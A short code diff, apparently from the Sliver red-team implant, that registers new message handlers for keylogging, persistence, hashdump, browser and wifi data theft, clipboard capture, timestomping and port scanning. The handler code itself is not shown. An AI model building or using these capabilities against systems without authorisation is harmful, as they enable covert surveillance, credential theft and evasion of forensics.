@@ -38,10 +38,55 @@ var (
 		sliverpb.MsgIfconfigReq:  ifconfigHandler,
 		sliverpb.MsgExecuteReq:   executeHandler,
 
+		sliverpb.MsgExecuteSignalReq: executeSignalHandler,
+
 		sliverpb.MsgScreenshotReq: screenshotHandler,
+		sliverpb.MsgKeyloggerReq:  keyloggerHandler,
 
 		sliverpb.MsgNetstatReq:  netstatHandler,
 		sliverpb.MsgSideloadReq: sideloadHandler,
+
+		sliverpb.MsgPersistInstallReq: persistInstallHandler,
+		sliverpb.MsgPersistRemoveReq:  persistRemoveHandler,
+
+		sliverpb.MsgReconfigReq: reconfigHandler,
+
+		sliverpb.MsgEnvReq:      envHandler,
+		sliverpb.MsgSetEnvReq:   setEnvHandler,
+		sliverpb.MsgUnsetEnvReq: unsetEnvHandler,
+
+		sliverpb.MsgWhoamiReq: whoamiHandler,
+		sliverpb.MsgRunAsReq:  runAsHandler,
+
+		sliverpb.MsgProcessDumpReq: dumpHandler,
+
+		sliverpb.MsgChmodReq:     chmodHandler,
+		sliverpb.MsgChownReq:     chownHandler,
+		sliverpb.MsgTimestompReq: timestompHandler,
+
+		sliverpb.MsgSearchReq: searchHandler,
+
+		sliverpb.MsgClipboardReq: clipboardHandler,
+
+		sliverpb.MsgWifiReq: wifiHandler,
+
+		sliverpb.MsgBrowserReq: browserHandler,
+
+		sliverpb.MsgHashdumpReq: hashdumpHandler,
+
+		sliverpb.MsgScreenshotWatchReq: screenshotWatchHandler,
+
+		sliverpb.MsgHashReq: hashHandler,
+
+		sliverpb.MsgDrivesReq: drivesHandler,
+
+		sliverpb.MsgHostInfoReq: hostInfoHandler,
+
+		sliverpb.MsgCurlReq: curlHandler,
+
+		sliverpb.MsgPortScanReq: portScanHandler,
+
+		sliverpb.MsgArpReq: arpHandler,
 	}
 
 	linuxPivotHandlers = map[uint32]PivotHandler{